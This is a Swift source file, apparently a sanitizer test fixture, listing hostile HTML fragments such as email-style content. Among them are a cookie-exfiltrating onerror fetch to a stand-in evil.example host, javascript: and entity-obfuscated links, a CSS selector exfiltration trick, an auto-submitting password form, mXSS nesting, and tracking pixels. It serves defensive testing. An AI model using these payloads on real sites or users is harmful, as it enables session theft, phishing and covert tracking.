/// Malicious HTML fragments, all of which are harmless after sanitizing.
enum HostileFragments {
    /// One fragment for each kind of attack.
    static let all = [
        """
        <p>By the way:</p><script>document.body.innerHTML = "Your account is locked. Call +1 \
        555 0100"</script>
        """,
        """
        <p>Our logo:<img src="x" onerror="fetch('https://collector.evil.example/?c=' + \
        document.cookie)"></p>
        """,
        """
        <img src="https://track.newsletter.example/open.gif?u=8814&amp;m=4c1f" width="1" \
        height="1" alt="" style="display:none">
        """,
        """
        <div \
        style="background:url('https://track.evil.example/bg.png');position:fixed;inset:0;z-index:9999">Session \
        expired, please <a href="https://nimbus-harbour.example.login.evil.example/">sign in \
        again</a></div>
        """,
        """
        <p><a href="javascript:alert(document.domain)">Show the invoice</a> or <a href=" \
        &#106;avascript:alert(1)">download it</a></p>
        """,
        """
        <style>@import url(https://evil.example/steal.css); .message-header { display: none } \
        input[value^="a"] { background: url(https://evil.example/a) }</style>
        """,
        """
        <iframe src="https://evil.example/frame" width="0" height="0"></iframe><object \
        data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
        """,
        """
        <svg width="40" height="40" onload="alert(1)"><script>alert(2)</script><a \
        xlink:href="javascript:alert(3)"><circle cx="20" cy="20" r="18"/></a></svg>
        """,
        """
        <form action="https://evil.example/collect" method="post"><p>Please confirm your \
        password: <input name="password" type="password" autofocus \
        onfocus="this.form.submit()"> <button>OK</button></p></form>
        """,
        """
        <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 \
        onerror=alert(1)&gt;"></table></mtext></math>
        """,
        """
        <base href="https://evil.example/"><meta http-equiv="refresh" \
        content="0;url=https://evil.example/"><link rel="stylesheet" \
        href="https://evil.example/x.css"><p onmouseover=alert(1)>Best regards</p>
        """,
        """
        <a id="location" name="body" href="/logout"><img \
        srcset="https://track.evil.example/2x.png 2x" src="https://track.evil.example/1x.png" \
        alt="signature"></a><video poster="https://track.evil.example/p.jpg" \
        src="https://track.evil.example/v.mp4" autoplay></video>
        """,
    ]
}
